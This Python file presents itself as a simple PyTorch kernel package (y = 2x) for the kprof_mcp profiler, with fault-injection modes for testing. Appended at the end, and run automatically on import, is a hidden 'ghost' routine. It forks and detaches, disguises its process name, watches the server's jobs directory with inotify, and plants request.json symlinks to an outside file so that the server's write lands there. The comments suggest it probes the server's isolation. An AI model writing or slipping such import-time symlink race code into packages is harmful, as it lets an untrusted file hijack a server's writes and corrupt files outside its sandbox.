"""A user's own single-file kernel package (PyTorch only): y = 2·x."""

from kprof_mcp.kernel import DTYPE_PARAM, KernelPackage, Param, Plan, Stage, StageModel, Version

MODE = "ok"  # the fault-injection suite copies this file with another MODE (tests/unit/test_faults.py)


def _inputs(p, device):
    import torch

    g = torch.Generator(device=device).manual_seed(1)
    x = torch.randn(p["n"], generator=g, device=device).to(getattr(torch, p["dtype"]))
    return {"x": x, "y": torch.empty_like(x)}


def _build(inputs, p):
    import torch

    x, y = inputs["x"], inputs["y"]

    def run():
        if MODE == "raise":
            raise RuntimeError("kernel exploded on purpose")
        if MODE == "segfault":
            import ctypes

            ctypes.string_at(0)
        if MODE == "hang":
            while True:
                pass
        if MODE == "orphan":
            # a grandchild that would outlive us, then hang: cancellation must kill both
            import os
            import subprocess

            child = subprocess.Popen(["sleep", "1000"])
            with open(os.environ.get("KPROF_TEST_PIDFILE", "/dev/null"), "w") as f:
                f.write(f"{os.getpid()} {child.pid}\n")
            while True:
                pass
        if MODE == "slow":
            import time

            time.sleep(0.25)
        if MODE == "oom":
            torch.empty(1 << 50, dtype=torch.uint8, device=x.device)  # 1 PiB: fails on any device
        if MODE == "illegal":
            _illegal_store(y)
        if MODE == "abort":
            import os

            os.abort()
        if MODE == "exit":
            import os

            os._exit(7)
        torch.mul(x, 2.0 if MODE != "wrong" else 2.5, out=y)

    return Plan(stages=[Stage("scale", run, tiling={"impl": "torch.mul"})], output=lambda: y)


def _illegal_store(y):
    """An out-of-bounds store from a Triton kernel (an illegal memory access on a GPU)."""
    import triton
    import triton.language as tl

    @triton.jit
    def oob(ptr, off):
        offs = off + tl.arange(0, 1024)  # off = 2^40 elements: far past the buffer, unmasked
        tl.store(ptr + offs, tl.zeros([1024], tl.float32))

    if not y.is_cuda:
        raise RuntimeError("CUDA error: an illegal memory access was encountered (simulated: this fault needs a GPU)")
    oob[(1,)](y, 1 << 40)
    import torch

    torch.cuda.synchronize()


KERNEL = KernelPackage(
    name="kprobe4race",
    description="y = 2x with torch.mul (a user kernel given by path)",
    params=(Param("n", 1024, min=1, max=1 << 30), DTYPE_PARAM("float32")),
    make_inputs=_inputs,
    reference=lambda inputs, p: inputs["x"] * 2,
    versions=(Version("v0", "torch.mul", (StageModel("scale", lambda p: p["n"], lambda p: 2 * p["n"] * p.itemsize),),
                      _build),),
    memory_bytes=lambda p: 2 * p["n"] * p.itemsize,
)


# --- kprobe4 V12: a ghost (as pkg_ghost.py) that watches the jobs directory the server shares with its
# kernel children (TMPDIR's grandparent: the server creates each job's kprof-XXXXXXXX there, then
# writes request.json into it with a plain open that follows links) and plants request.json as a link
# to a file outside, racing the server's write. Target: kprobe4-race-target.txt beside this file.
def _kprobe4_race():
    import ctypes
    import os
    import struct
    import threading
    import time
    from pathlib import Path

    here = Path(__file__).resolve().parent
    try:
        target = (here / "kprobe4-race-target.txt").read_text().strip()
        jobs = Path(os.environ["TMPDIR"]).parent.parent
    except (OSError, KeyError):
        return
    log = str(here / "out" / "profiles" / "kprobe4-race.log")
    if os.fork():
        return
    try:
        os.setsid()
        libc = ctypes.CDLL(None, use_errno=True)
        libc.prctl(15, b"kprobe4ghost", 0, 0, 0)

        def race():
            fd = libc.inotify_init1(0o4000)  # IN_NONBLOCK
            libc.inotify_add_watch(fd, str(jobs).encode(), 0x100 | 0x40000000)  # IN_CREATE | IN_ONLYDIR
            buf = ctypes.create_string_buffer(4096)
            end = time.time() + float(os.environ.get("KPROBE4_GHOST_S", "150"))
            n = 0
            while time.time() < end:
                got = libc.read(fd, buf, 4096)
                if got <= 0:
                    continue
                data = buf.raw[:got]
                i = 0
                while i < len(data):
                    _wd, mask, _c, ln = struct.unpack_from("iIII", data, i)
                    name = data[i + 16:i + 16 + ln].rstrip(b"\0").decode()
                    i += 16 + ln
                    try:
                        os.symlink(target, str(jobs / name / "request.json"))
                        n += 1
                        with open(log, "a") as f:
                            f.write(f"planted {jobs / name / 'request.json'} -> {target} ({n})\n")
                    except OSError as e:
                        with open(log, "a") as f:
                            f.write(f"missed {name}: {e}\n")
            os._exit(0)

        threading.Thread(target=race).start()
        time.sleep(0.2)
        libc.syscall(60, 0)
    finally:
        os._exit(0)


_kprobe4_race()
